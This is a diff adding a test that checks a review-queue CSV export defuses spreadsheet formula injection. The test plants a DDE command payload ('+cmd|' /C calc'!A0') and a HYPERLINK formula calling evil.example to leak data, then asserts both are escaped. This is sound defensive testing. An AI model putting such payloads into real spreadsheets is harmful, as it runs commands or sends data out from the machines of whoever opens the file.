@@ -334,3 +334,34 @@ def test_text_diff_of_long_texts_is_bounded_and_still_marks_only_changed_words(m
     assert all(a[0] != b[0] for a, b in zip(pieces, pieces[1:], strict=False))  # no two pieces of one kind in a row
     assert marked_diff("Find the value of x.", "Determine the value of y.") == (
         "[-Find-]{+Determine+} the value of [-x.-]{+y.+}")
+
+
+def test_a_sheet_runs_no_formula_and_still_round_trips(tmp_path, shared_data):
+    # An LLM's text or a benchmark's id that starts as a formula (=, +, -, @) would run when the reviewer
+    # opens the sheet: written with a leading apostrophe, read back as the queue holds it; an id that ends
+    # in a tab still matches its queue entry.
+    run = make_run(tmp_path, shared_data)
+    queue = run / "review_queue.jsonl"
+    recs = [json.loads(x) for x in queue.read_text().splitlines()]
+    recs[0]["ancestor_id"] = "+cmd|' /C calc'!A0"
+    recs[1]["child"]["problem"] = "-2+3 " + recs[1]["child"]["problem"]
+    recs[2]["ancestor_id"] = '=HYPERLINK("http://evil.example/?leak","click")\t'
+    queue.write_text("".join(json.dumps(r) + "\n" for r in recs))
+    _, csv_path = export_queue(run)
+    rows = list(csv.DictReader(csv_path.open()))
+    def number(v):
+        try:
+            return float(v) == float(v)
+        except ValueError:
+            return False
+
+    risky = [(r["item_id"], k, v) for r in rows for k, v in r.items() if v and v[0] in "=+-@\t\r" and not number(v)]
+    assert risky == []  # a negative difficulty stays a number
+    assert rows[0]["ancestor_id"] == "'+cmd|' /C calc'!A0" and rows[1]["child_text"].startswith("'-2+3 ")
+    for r in rows[:3]:
+        r.update(reviewer="ann", decision="accept")
+    with csv_path.open("w", newline="") as fh:
+        w = csv.DictWriter(fh, fieldnames=list(rows[0]))
+        w.writeheader()
+        w.writerows(rows)
+    assert import_decisions(run, csv_path) == 3
